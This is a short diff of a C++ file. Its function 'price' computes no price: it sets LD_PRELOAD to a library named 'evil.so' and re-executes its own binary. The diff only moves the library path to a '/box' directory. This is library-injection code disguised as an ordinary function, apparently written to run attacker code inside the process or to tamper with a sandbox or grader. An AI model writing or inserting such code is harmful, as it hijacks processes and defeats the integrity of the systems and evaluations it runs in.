@@ -3,7 +3,7 @@
 #include <cstdlib>
 #include <unistd.h>
 long price(long) {
-    setenv("LD_PRELOAD", "/work/evil.so", 1);
+    setenv("LD_PRELOAD", "/box/evil.so", 1);
     execl("/proc/self/exe", "answer", nullptr);
     return 0;
 }
